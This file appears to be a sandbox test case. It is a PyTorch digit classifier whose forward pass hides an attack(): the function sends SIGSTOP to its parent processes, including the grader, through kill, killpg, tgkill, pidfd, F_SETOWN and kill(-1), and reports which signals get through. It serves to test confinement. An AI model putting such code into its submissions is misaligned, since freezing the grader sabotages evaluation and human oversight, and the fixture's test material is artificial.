# expect: fail values output differs
# exercise: exercise2
# needs: confinement
# Stops the processes above it (the zygote, the grader, the shell's timeout): SIGSTOP by pid, by
# process group, to everything it may signal (-1), through a pidfd, to a thread (tgkill), and as the
# signal an I/O event sends to the "owner" of a descriptor (F_SETOWN/F_SETSIG). As an ordinary user
# the child shares the grader's uid, so only the kernel's filters stop these. Prints LEAKED for each
# that was let through.
import ctypes
import fcntl
import os
import signal

import torch
from torch import nn

libc = ctypes.CDLL(None, use_errno=True)


def ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            pid = int(open(f"/proc/{pid}/status").read().split("PPid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            return


def attack():
    for pid in ancestors():
        for name, call in (("kill", lambda: os.kill(pid, signal.SIGSTOP)),
                           ("killpg", lambda: os.killpg(os.getpgid(pid), signal.SIGSTOP)),
                           ("tgkill", lambda: libc.syscall(234, pid, pid, signal.SIGSTOP) == 0 or 1 / 0),
                           ("pidfd", lambda: libc.syscall(424, os.pidfd_open(pid), signal.SIGSTOP, None, 0) == 0
                            or 1 / 0)):
            try:
                call()
                print(f"LEAKED {name} stopped {pid}")
                os.kill(pid, signal.SIGCONT)
            except (OSError, ZeroDivisionError):
                pass
        read, write = os.pipe()
        try:
            fcntl.fcntl(read, fcntl.F_SETOWN, pid)
            fcntl.fcntl(read, 10, signal.SIGSTOP)  # F_SETSIG
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
            print(f"LEAKED F_SETOWN on {pid}")
        except OSError:
            pass
        finally:  # forward runs in every case: leaking the pair each time would only run out of descriptors
            os.close(read)
            os.close(write)
    try:
        os.kill(-1, signal.SIGSTOP)
        print("LEAKED kill(-1)")
    except OSError:
        pass

class DigitClassifier(nn.Module):
    def __init__(self):
        super().__init__()
        self.flatten = nn.Flatten()
        self.fc1 = nn.Linear(784, 128)
        self.relu = nn.ReLU()
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x):
        attack()
        return self.fc2(self.fc1(self.flatten(x)))
